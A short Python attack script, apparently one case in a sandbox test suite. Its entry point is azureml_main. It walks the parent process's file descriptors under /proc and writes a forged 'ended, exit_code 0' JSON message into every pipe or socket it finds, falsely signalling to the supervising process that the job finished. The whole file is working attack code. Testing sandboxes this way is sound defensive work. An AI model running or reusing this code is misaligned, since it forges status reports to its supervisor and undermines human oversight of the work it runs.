"""Opens again what its supervisor has open, and writes there."""

import os

from attack import attack, every


def speak(path):
    target = os.readlink(path)
    if "pipe" not in target and "socket" not in target:
        return ""
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, b'{"ended": {"exit_code": 0}}\n')
    return f"wrote into {target} of the supervisor"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    folder = f"/proc/{os.getppid()}/fd"
    return every(speak, [os.path.join(folder, name) for name in os.listdir(folder)])
